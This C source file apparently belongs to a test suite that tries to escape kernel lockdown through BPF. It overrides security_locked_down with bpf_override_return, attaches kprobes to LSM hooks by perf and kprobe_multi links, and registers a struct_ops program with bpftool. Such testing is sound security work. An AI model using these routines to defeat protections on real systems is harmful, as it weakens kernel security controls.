// SPDX-License-Identifier: GPL-2.0-only
/* Overrule it by what only watches: kprobes, by perf and by BPF, and structs of BPF programs that the kernel calls. */
#include <errno.h>
#include <linux/perf_event.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attacks.h"
#include "escape.h"
#include "tools.h"

#define PROBED "security_locked_down"
#define KPROBE_PMU "/sys/bus/event_source/devices/kprobe/type"

struct outcome attack_kprobe(void)
{
	const struct bpf_insn code[] = {
		SET(BPF_REG_2, 0),
		CALL(BPF_FUNC_override_return),
		SET(BPF_REG_0, 0),
		EXIT(),
	};
	const struct program program = PROGRAM(KPROBE, code);
	const int fd = load_program(&program);

	if (fd < 0 && errno == EINVAL)
		return absent("this kernel has no bpf_override_return");
	step(fd >= 0, "PROG_LOAD");
	return verdict();
}

/* Counts in @map, and answers @answer. */
static int load_probe(int map, enum bpf_attach_type attach, int answer)
{
	const struct bpf_insn code[] = {COUNT_IN(map), SET(BPF_REG_0, answer), EXIT()};
	struct program program = PROGRAM(KPROBE, code);

	program.attach = attach;
	return load_program(&program);
}

static int perf_probe(void)
{
	struct perf_event_attr attr = {.size = sizeof(attr), .config1 = (uintptr_t)PROBED, .sample_period = 1};
	char type[16];

	if (read_text(KPROBE_PMU, type, sizeof(type)) < 0)
		return -1;
	attr.type = atoi(type);
	return syscall(SYS_perf_event_open, &attr, -1, 0, -1, PERF_FLAG_FD_CLOEXEC);
}

static int attach_by_perf(int program)
{
	const int event = perf_probe();

	if (event < 0 || ioctl(event, PERF_EVENT_IOC_SET_BPF, program) || ioctl(event, PERF_EVENT_IOC_ENABLE, 0))
		return -1;
	return event;
}

static int attach_many(int program)
{
	const char *const names[] = {PROBED, "security_bpf", "security_bpf_map"};
	union bpf_attr attr = {.link_create = {.prog_fd = program, .attach_type = BPF_TRACE_KPROBE_MULTI}};

	attr.link_create.kprobe_multi.cnt = ARRAY_SIZE(names);
	attr.link_create.kprobe_multi.syms = (uintptr_t)names;
	return bpf(BPF_LINK_CREATE, &attr);
}

/* Whatever it answers; the count proves that it ran. */
static struct outcome probe_with(enum bpf_attach_type attach, int (*attach_it)(int program))
{
	struct outcome outcome = broken("no answer was tried");

	for (int answer = -1; answer <= 1; answer++) {
		const int map = make_array(sizeof(uint64_t)), program = load_probe(map, attach, answer);
		int link;
		uint64_t count = 0;

		if (!step(program >= 0, "PROG_LOAD"))
			return verdict();
		link = attach_it(program);
		if (!step(link >= 0, "attaching the probe"))
			return verdict();
		outcome = verdict();
		if (outcome.result == RESULT_DONE)
			return outcome;
		if (read_array(map, &count) || !count)
			return broken("the probe never ran");
		close(link);
	}
	return outcome;
}

struct outcome attack_kprobe_perf(void)
{
	return probe_with(0, attach_by_perf);
}

struct outcome attack_kprobe_multi(void)
{
	return probe_with(BPF_TRACE_KPROBE_MULTI, attach_many);
}

/* A congestion control of TCP made of BPF programs (congestion.bpf.c). */
struct outcome attack_struct_ops(void)
{
	struct outcome outcome;

	if (access("/usr/lib/escape/congestion.o", R_OK))
		return broken("no congestion.o");
	step(!system("bpftool struct_ops register /usr/lib/escape/congestion.o >/tmp/struct_ops 2>&1"), "register it");
	outcome = verdict();
	step(!system("bpftool struct_ops unregister name escape_control >/dev/null 2>&1"), "unregister it");
	return outcome;
}
